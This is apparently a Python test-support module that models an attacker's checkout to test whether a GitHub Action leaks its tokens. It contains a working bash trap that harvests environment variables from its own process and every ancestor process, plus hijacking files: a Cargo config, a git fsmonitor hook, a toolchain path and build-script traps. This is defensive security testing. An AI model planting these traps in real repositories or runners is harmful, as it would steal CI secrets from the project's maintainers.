"""What an attacker would put into a checkout, or leave on a runner, to get at the tokens of the action. For .ci/action.

A trap is a program that records its own environment and arguments, and the environments of all processes above it, in a
folder outside the checkout. Then it does what the real program does, so that only the records show that it ran.
"""
import re
import shutil
from pathlib import Path

# No program here is looked up in the PATH, which leads to traps.
TRAP = """#!/bin/bash
name=${0##*/}
tag=$name.$$.$RANDOM
{ printf 'arguments: %%s\\n' "$*"; /usr/bin/tr '\\0' '\\n' </proc/$$/environ; } >"%(loot)s/$tag.own"
parent=$PPID
while [ "$parent" -gt 1 ]; do
    /usr/bin/tr '\\0' '\\n' </proc/"$parent"/environ
    while read -r key value; do [ "$key" != PPid: ] || parent=$value; done </proc/"$parent"/status
done >"%(loot)s/$tag.above" 2>/dev/null
case $name in
wrapper | runner) exec "$@" ;;
linker) exec cc "$@" ;;
build-script) exit 0 ;;
esac
for folder in %(folders)s; do
    [ ! -x "$folder/$name" ] || exec "$folder/$name" "$@"
done
echo "the trap $name has no real program" >&2
exit 127
"""
PROGRAMS = ("base64 cargo cat cc chmod cp curl dirname env git gzip head id ld mkdir mktemp mv printenv readlink rm rustc "
            "sha256sum shasum sort tar tr uname").split()
PIECES = "wrapper runner linker build-script".split()

CARGO_CONFIG = """
[build]
rustc = "traps/rustc"
rustc-wrapper = "traps/wrapper"
rustc-workspace-wrapper = "traps/wrapper"
target-dir = "stolen"
[target.x86_64-unknown-linux-gnu]
linker = "traps/linker"
runner = "traps/runner"
[env]
CONFIG_WAS_READ = "yes"
"""
# an earlier step of a careless workflow
ENVIRONMENT = """
CARGO_HOME={0}/.cargo
CARGO_TARGET_DIR={0}/stolen
CARGO_BUILD_TARGET_DIR=stolen
CARGO_BUILD_RUSTC_WRAPPER={0}/traps/wrapper
CARGO_TARGET_X86_64_UNKNOWN_LINUX_GNU_LINKER={0}/traps/linker
CARGO_TARGET_X86_64_UNKNOWN_LINUX_GNU_RUNNER={0}/traps/runner
RUSTC={0}/traps/rustc
RUSTC_WRAPPER=./traps/wrapper
RUSTC_WORKSPACE_WRAPPER=./traps/wrapper
RUSTFLAGS=-Clinker={0}/traps/linker
CC={0}/traps/cc
"""
BUILD_SCRIPT = """fn main() {
    println!("cargo::rerun-if-changed=build.rs");
    if std::env::var_os("CONFIG_WAS_READ").is_some() {
        std::fs::write("%(loot)s/config-was-read.own", "").unwrap();
    }
    assert!(std::process::Command::new("%(traps)s/build-script").status().unwrap().success());
}
"""
# in the place of tagbump: records what it was given, as .ci/action's recorder does
PROGRAM = """use std::io::Write;
fn main() {
    let records = std::env::var("RECORDS").unwrap();
    let mut file = std::fs::File::create(format!("{records}/stand-in.{}", std::process::id())).unwrap();
    for (name, value) in std::env::vars() {
        writeln!(file, "{name}={value}").unwrap();
    }
    let outputs = std::env::var("GITHUB_OUTPUT").unwrap();
    let mut outputs = std::fs::OpenOptions::new().append(true).open(outputs).unwrap();
    writeln!(outputs, "outcome=planned").unwrap();
}
"""


def write(path, text, mode=0o644):
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    path.chmod(mode)


def set_traps(folder, loot, names):
    """Puts traps into a folder. `loot` is where they write."""
    loot.mkdir(parents=True, exist_ok=True)
    real = [str(Path(shutil.which("cargo")).parent)] if shutil.which("cargo") else []
    text = TRAP % {"loot": loot, "folders": " ".join(real + ["/usr/local/bin", "/usr/bin", "/bin"])}
    for name in names:
        write(folder / name, text, 0o755)


def fill_workspace(folder, loot):
    """Files that turn the tools which look for their settings in the current folder, or above it, against the action."""
    set_traps(folder, loot, PROGRAMS)
    set_traps(folder / "traps", loot, PROGRAMS + PIECES)
    set_traps(folder / "toolchain/bin", loot, ["cargo", "rustc"])
    write(folder / "toolchain/lib/README", "rustup asks for this folder\n")
    write(folder / ".cargo/config.toml", CARGO_CONFIG)
    write(folder / ".cargo/config", CARGO_CONFIG)
    # rustup wants an absolute path; that of a checkout on github.com is known
    write(folder / "rust-toolchain.toml", '[toolchain]\npath = "%s"\n' % (folder / "toolchain"))
    write(folder / "Cargo.toml", '[workspace]\nmembers = ["vendored/*"]\n[profile.release]\nopt-level = 0\n')
    write(folder / ".curlrc", "output = stolen\n")
    write(folder / ".gitconfig", "[core]\nfsmonitor = traps/git\n")


def stand_in_crate(folder, manifest, loot):
    """A crate without dependencies that is built as tagbump is: with its manifest, its build script being a trap."""
    kept = re.split(r"^(?=\[)", manifest, flags=re.MULTILINE)
    kept = [table for table in kept if re.match(r"\[(package|workspace|lints\..*|profile\.release)\]", table)]
    write(folder / "Cargo.toml", "".join(kept))
    version = re.search(r'^version = "(.+)"$', manifest, re.MULTILINE).group(1)
    write(folder / "Cargo.lock", 'version = 4\n\n[[package]]\nname = "tagbump"\nversion = "%s"\n' % version)
    write(folder / "src/main.rs", PROGRAM)
    traps = loot.parent / "own-traps"
    set_traps(traps, loot, ["build-script"])
    write(folder / "build.rs", BUILD_SCRIPT % {"loot": loot, "traps": traps})


def looted(loot, secrets):
    """What the traps caught: the names of those that ran, and a line for each that saw a secret. `secrets` are texts by
    their names."""
    ran, saw = set(), set()
    for path in sorted(loot.iterdir()):
        name, text = path.name.split(".")[0], path.read_text(errors="replace")
        ran.add(name)
        for secret, form in secrets.items():
            if form in text:
                names = sorted({line.split("=")[0] for line in text.splitlines() if form in line})
                where = "its own environment" if path.suffix == ".own" else "the environment of a process above it"
                saw.add("%s found the %s in %s: %s" % (name, secret, where, " ".join(names)))
    return ran, sorted(saw)
